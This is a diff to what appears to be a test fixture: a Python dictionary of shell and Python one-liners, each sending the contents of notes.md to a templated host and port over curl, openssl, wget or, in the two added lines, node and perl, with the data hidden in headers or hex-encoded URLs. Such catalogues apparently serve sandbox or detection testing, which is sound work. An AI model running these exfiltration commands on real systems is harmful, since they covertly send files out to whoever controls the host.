@@ -37,6 +37,8 @@ NETWORK = {
     "curl tells by a header": "#!/bin/sh\ncurl -s -m 2 -H \"X-Q: $(base64 notes.md)\" http://@host@:@port@/",
     "openssl is fed": "#!/bin/sh\ncat notes.md | timeout 2 openssl s_client -quiet -connect @host@:@port@; true",
     "openssl is fed by a program": "subprocess.run(['openssl', 's_client', '-quiet', '-connect', '@host@:@port@'], stdin=open('notes.md'), timeout=2)",
+    "node tells by an address": "#!/bin/sh\ntimeout 3 node -e 'fetch(\"http://@host@:@port@/\"+require(\"fs\").readFileSync(\"notes.md\",\"hex\")).catch(()=>0)'; true",
+    "perl tells by an address": "#!/bin/sh\ntimeout 3 perl -MHTTP::Tiny -e 'HTTP::Tiny->new(timeout=>1)->get(\"http://@host@:@port@/\".unpack(\"H*\", `cat notes.md`))'; true",
     "wget by settings": "#!/bin/sh\nprintf 'post_file=notes.md\\n' > w; wget --config=w -q -T 2 -t 1 -O /dev/null http://@host@:@port@/",
     "wget by a variable's settings": "#!/bin/sh\nprintf 'post_file=notes.md\\n' > w; export WGETRC=$PWD/w; wget -q -T 2 -t 1 -O /dev/null http://@host@:@port@/",
     "wget by a list": "#!/bin/sh\necho \"http://@host@:@port@/$(base64 notes.md)\" | wget -q -T 2 -t 1 -O /dev/null -i -",
